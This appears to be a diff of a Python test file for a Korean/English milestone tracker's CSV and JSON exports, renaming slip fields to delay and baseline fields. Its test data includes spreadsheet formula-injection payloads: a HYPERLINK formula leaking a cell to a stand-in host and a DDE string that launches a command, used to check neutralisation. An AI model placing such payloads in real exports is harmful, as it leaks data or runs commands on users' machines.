@@ -26,9 +26,10 @@ EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"클릭")'
 def program():
     """A small program that covers every shape an export has to write.
 
-    - dc-build: planned end said to be Dec 2022 (stated 2021-01-03), later H1 2023 (stated 2022-06-01): slip +181.
+    - dc-build: planned end said to be Dec 2022 (stated 2021-01-03), later H1 2023 (stated 2022-06-01): a month
+      late against the first plan (31 days, first day to first day).
     - pilot: an event that happened "in August or September 2021" (a range), no English title.
-    - evil: a title that is a spreadsheet formula; its plan moved a year earlier (slip -365).
+    - evil: a title that is a spreadsheet formula; its plan moved a year earlier (delay -365).
     - old-plan: planned, its only source from 2020: stale. opened (done) and dropped (cancelled) are as old, not stale.
     - undated: no claim at all.
     """
@@ -150,7 +151,9 @@ class TestCsvExport:
         assert dc["phase"] == "phase-a"
         assert dc["kind"] == "span"
         assert dc["status"] == "overdue"
-        assert dc["slip_days"] == "181"
+        assert (dc["baseline_end"], dc["baseline_end_lo"]) == ("2022-12", "2022-12-01")
+        assert (dc["delay_days"], dc["delay"], dc["delay_unit"], dc["delay_basis"]) == ("31", "1", "month", "forecast")
+        assert dc["forecast_drift_days"] == "31"
         assert dc["source_count"] == "2"
         assert dc["latest_source"] == "연합뉴스 ~2022-06-01"
         assert dc["latest_source_on"] == "2022-06-01"
@@ -163,7 +166,7 @@ class TestCsvExport:
         )
         assert pilot["title_en"] == ""
         assert pilot["status"] == "done"
-        assert rows["undated"]["planned_end"] == rows["undated"]["slip_days"] == ""
+        assert rows["undated"]["planned_end"] == rows["undated"]["delay_days"] == rows["undated"]["baseline_end"] == ""
 
     def test_formula_injection_is_neutralised_but_numbers_stay_numbers(self, client, program):
         rows = by_key(read_csv(client.get(url("export_csv"))))
@@ -171,7 +174,7 @@ class TestCsvExport:
         assert evil["title_ko"] == "'" + EVIL_TITLE
         assert evil["title_en"] == "'+cmd|' /C calc'!A0"
         assert evil["latest_source"] == "'@publisher 2024-01-01"
-        assert evil["slip_days"] == "-365"
+        assert (evil["delay_days"], evil["delay"]) == ("-365", "-1")
         for row in rows.values():
             for value in row.values():
                 assert not value.startswith(("=", "+", "@", "\t", "\r")), value
@@ -190,8 +193,8 @@ class TestCsvExport:
         assert re.search(r'filename="share-milestones-2021-06-01\.csv"', response["Content-Disposition"])
         rows = by_key(read_csv(response))
         dc = rows["dc-build"]
-        assert (dc["planned_end"], dc["slip_days"], dc["source_count"]) == ("2022-12", "", "1")
-        assert rows["pilot"]["actual_end"] == ""  # reported only in 2022
+        assert (dc["planned_end"], dc["delay_days"], dc["source_count"]) == ("2022-12", "0", "1")
+        assert "pilot" not in rows, "reported only in 2022: unknown on the as-of day"
 
     def test_bad_filters_are_dropped_not_a_500(self, client, program):
         response = client.get(url("export_csv"), {"as_of": "garbage", "kind": "<x>"})
@@ -267,10 +270,9 @@ class TestJsonExport:
         assert data["as_of"] == "2021-06-01"
         assert data["filters"] == {"phase": "phase-a", "as_of": "2021-06-01"}
         milestones = by_key(data["milestones"])
-        assert set(milestones) == {"phase-a", "dc-build", "pilot"}
+        assert set(milestones) == {"dc-build"}, "the phase and the pilot had no claim stated by then"
         assert milestones["dc-build"]["planned_end"]["edtf"] == "2022-12"
         assert [c["stated_on"] for c in milestones["dc-build"]["claims"]] == ["2021-01-03"]
-        assert milestones["pilot"]["claims"] == []
         assert len(data["sources"]) == 1
 
     @pytest.mark.parametrize("size", [10, 200])
@@ -435,7 +437,7 @@ class TestLanguages:
             '<th scope="col">실제</th>',
             "상태",
             "출처",
-            "지연",
+            "첫 계획 대비",
         ):
             assertContains(response, text)
         assertContains(response, "데이터센터 건물 완공")
@@ -455,7 +457,13 @@ class TestLanguages:
             client.cookies[settings.LANGUAGE_COOKIE_NAME] = how["cookie"]
         response = client.get(url("program"), headers=how.get("headers", {}))
         assertContains(response, '<html lang="en">')
-        for text in ("Milestone tracker", '<th scope="col">Planned</th>', "Sources", "Slip", "Export this view:"):
+        for text in (
+            "Milestone tracker",
+            '<th scope="col">Planned</th>',
+            "Sources",
+            "Against the first plan",
+            "Export this view:",
+        ):
             assertContains(response, text)
         assertContains(response, "Data center building completion")
         assertContains(response, "H1 2023")
